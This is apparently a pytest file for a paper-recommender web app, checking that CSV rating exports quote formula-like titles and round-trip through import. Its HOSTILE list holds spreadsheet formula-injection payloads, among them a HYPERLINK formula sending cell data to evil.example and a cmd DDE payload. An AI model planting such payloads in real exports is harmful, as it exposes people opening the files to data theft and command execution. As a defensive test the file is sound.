"""Exports neutralise spreadsheet formulas (issue 20, item 9): a title that starts with
``=`` is a live formula when the CSV is opened in a spreadsheet unless it is written as
text. The export quotes it (``'=``), and importing that export gives the same ratings."""

from __future__ import annotations

import csv
import io

import pytest

from recommender import store
from recommender.dumps import normalise_title
from recommender.ratings_io import RatingRecord, read_ratings, write_ratings

from .._web import post, rate_by_fetch, sign_up, user_id

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "'=already quoted",
]


def test_a_real_csv_export_writes_formula_titles_as_text_and_imports_back(app, db, data_dir):
    ada, bob = app.test_client(), app.test_client()
    sign_up(ada, "ada@example.org")
    sign_up(bob, "bob@example.org")
    papers = [p["paper_id"] for p in ada.get("/feed.json").get_json()["papers"][: len(HOSTILE)]]
    with store.connect(data_dir / "paperfeed.db") as conn:  # titles as a hostile dump has them
        for paper, title in zip(papers, HOSTILE, strict=True):
            conn.execute(
                "UPDATE papers SET title = ?, norm_title = ? WHERE id = ?",
                [title, normalise_title(title), paper],
            )
    for paper in papers:
        rate_by_fetch(ada, paper, "like")

    export = ada.get("/settings/export?format=csv")
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    titles = sorted(r["title"] for r in rows)
    assert titles == sorted("'" + t for t in HOSTILE)
    assert not [c for r in rows for c in r.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    upload = {"file": (io.BytesIO(export.data), "ratings.csv")}
    imported = post(bob, "/settings/import", upload, content_type="multipart/form-data")
    assert imported.status_code == 302
    assert "Imported 6 ratings" in bob.get("/settings").get_data(as_text=True)
    assert store.rating_values(db, user_id(db, "bob@example.org")) == store.rating_values(
        db, user_id(db, "ada@example.org")
    )


@pytest.mark.parametrize("title", [*HOSTILE, "''=two quotes", "plain", "'quoted plain"])
def test_csv_round_trips_every_title_exactly(title):
    record = RatingRecord(title=" ".join(title.split()) or "x", value=1, authors=("@ann",))
    assert read_ratings(write_ratings([record], "csv"), "csv") == [record]
